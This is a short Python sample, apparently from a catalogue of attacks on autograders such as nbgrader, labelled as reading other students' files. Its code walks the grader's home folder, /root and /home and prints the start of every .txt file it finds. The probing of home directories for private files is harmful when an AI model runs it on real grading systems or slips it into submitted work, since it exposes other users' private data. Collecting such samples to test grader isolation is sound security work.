"""Read the home folder of whoever grades.

class: other students' files
gain: read
nbgrader: works
"""

from pathlib import Path

for path in (Path("@HOME@"), Path.home(), Path("/root"), Path("/home")):
    for file in path.glob("*.txt"):
        print(file.read_text()[:500])
